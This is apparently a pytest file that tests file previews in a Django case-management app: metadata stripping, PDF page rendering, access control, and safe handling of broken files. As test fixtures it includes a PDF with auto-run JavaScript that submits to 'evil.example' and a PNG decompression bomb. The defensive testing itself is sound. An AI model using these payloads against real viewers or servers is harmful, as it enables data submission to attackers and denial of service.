"""Files previewed on the case page: images re-encoded without their metadata, PDFs as page
images rendered on the server with nothing of the file run; a damaged or hostile file shows
"no preview" and never an error; previews only for those who see the case, never cached; the
original stays a download."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import Image

from senim.cases.models import Case
from senim.intake import attachments
from senim.intake.models import Attachment
from senim.organization.models import Role
from tests.intake_helpers import gps_of, jpeg_with_gps

pytestmark = pytest.mark.django_db


def _pdf(pages: int) -> bytes:
    from weasyprint import HTML

    body = "".join(
        f'<p style="page-break-after: always">Page {n} of the scanned receipt</p>'
        for n in range(1, pages + 1)
    )
    return bytes(HTML(string=f"<html><body>{body}</body></html>").write_pdf())


# A PDF whose document opens with JavaScript (an OpenAction): a viewer that ran it would act.
HOSTILE_PDF = b"""%PDF-1.4
1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >> endobj
2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj
3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >> endobj
4 0 obj << /S /JavaScript /JS (app.alert('pwned'); this.submitForm('http://evil.example/');) >>
endobj
trailer << /Root 1 0 R >>
%%EOF
"""


def _png_bomb() -> bytes:
    """A PNG declaring 60000 x 60000 pixels in a few bytes: decoded, it would need 10 GB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", 60000, 60000, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + chunk(b"IEND", b"")
    )


def _attach(case: Case, name: str, content_type: str, data: bytes) -> Attachment:
    """A stored file as intake leaves it (sealed), without intake's checks: files stored before
    them, or that got past them, must not break the page either."""
    number = Attachment.objects.filter(appeal=case.appeal).count() + 1
    return Attachment.objects.create(
        appeal=case.appeal,
        storage_name=attachments.store_sealed(data),
        name=f"file-{number}{attachments.EXTENSIONS[content_type]}",
        content_type=content_type,
        size=len(data),
    )


@pytest.fixture
def chief(make_staff):
    return make_staff(Role.CHIEF, "REG-75", username="chief-previews")


def _png(response) -> Image.Image:
    assert response.status_code == 200 and response["Content-Type"] == "image/png"
    assert response["Cache-Control"] == "private, no-store"
    image = Image.open(io.BytesIO(response.content))
    image.load()
    return image


def test_a_pdf_is_shown_as_page_images_and_stays_a_download(chief, make_case, login, settings):
    settings.SENIM_PREVIEW_MAX_PAGES = 3
    case = make_case("DST-75-02")
    pdf = _attach(case, "receipt.pdf", "application/pdf", _pdf(5))
    client = login(chief)
    page = client.get(f"/office/cases/{case.pk}/", HTTP_ACCEPT_LANGUAGE="en").content.decode()
    base = f"/office/cases/{case.pk}/files/{pdf.pk}"
    assert f'href="{base}/" download' in page  # the original, as before
    assert f'<img src="{base}/preview/1.png"' in page
    first = _png(client.get(f"{base}/preview/1.png"))
    assert max(first.size) <= settings.SENIM_PREVIEW_MAX_SIDE and first.size[1] > first.size[0]
    preview = client.get(f"{base}/preview/", HTTP_ACCEPT_LANGUAGE="en")
    assert preview["Cache-Control"] == "private, no-store"
    html = preview.content.decode()
    assert [f"{base}/preview/{n}.png" in html for n in (1, 2, 3, 4)] == [True, True, True, False]
    assert "At most 3 pages are shown" in html
    assert _png(client.get(f"{base}/preview/3.png")).size == first.size
    # Beyond the limit: no rendering, the "no preview" tile.
    beyond = _png(client.get(f"{base}/preview/4.png"))
    assert beyond.size == (240, 160)
    download = client.get(f"{base}/")
    assert download["Content-Type"] == "application/octet-stream"
    assert download.content.startswith(b"%PDF-")


def test_an_image_preview_is_re_encoded_without_its_metadata(chief, make_case, login):
    case = make_case("DST-75-02")
    photo = _attach(case, "photo.jpg", "image/jpeg", jpeg_with_gps())
    client = login(chief)
    response = client.get(f"/office/cases/{case.pk}/files/{photo.pk}/preview/1.png")
    image = _png(response)
    assert image.size == (40, 30)
    assert gps_of(response.content) == {}
    assert b"GPS" not in response.content and b"Owner Name" not in response.content


@pytest.mark.parametrize(
    ("content_type", "data"),
    [
        ("application/pdf", b"%PDF-1.4 this is not a PDF at all"),
        ("application/pdf", HOSTILE_PDF),
        ("image/png", _png_bomb()),
        ("image/jpeg", b"\xff\xd8\xff\xe0 truncated"),
    ],
    ids=["damaged-pdf", "pdf-with-javascript", "png-bomb", "damaged-jpeg"],
)
def test_a_broken_or_hostile_file_shows_no_preview_and_never_an_error(
    chief, make_case, login, content_type, data
):
    case = make_case("DST-75-02")
    bad = _attach(case, "bad", content_type, data)
    client = login(chief)
    assert client.get(f"/office/cases/{case.pk}/").status_code == 200
    tile = _png(client.get(f"/office/cases/{case.pk}/files/{bad.pk}/preview/1.png"))
    if content_type == "application/pdf" and data is HOSTILE_PDF:
        # pdfium may draw its empty page; its script never runs (no form environment).
        assert tile.size in ((240, 160), (900, 900))
    else:
        assert tile.size == (240, 160)
    page = client.get(f"/office/cases/{case.pk}/files/{bad.pk}/preview/", HTTP_ACCEPT_LANGUAGE="en")
    assert page.status_code == 200
    if tile.size == (240, 160):
        assert "No preview" in page.content.decode()


def test_previews_only_for_those_who_see_the_case(chief, make_staff, make_case, login):
    case = make_case("DST-75-02")
    pdf = _attach(case, "receipt.pdf", "application/pdf", _pdf(1))
    url = f"/office/cases/{case.pk}/files/{pdf.pk}/preview/1.png"
    assert login(make_staff(Role.CHIEF, "REG-71")).get(url).status_code == 404
    assert login(make_staff(Role.INVESTIGATOR, "REG-75")).get(url).status_code == 404  # not his
    assert login(make_staff(Role.OPERATOR)).get(url).status_code == 403
    assert login(make_staff(Role.ANALYST)).get(url).status_code == 403
    other = make_case("DST-75-02")
    assert (
        login(chief).get(f"/office/cases/{other.pk}/files/{pdf.pk}/preview/1.png").status_code
        == 404
    )
    from django.test import Client

    assert Client().get(url).status_code == 302  # to the sign-in
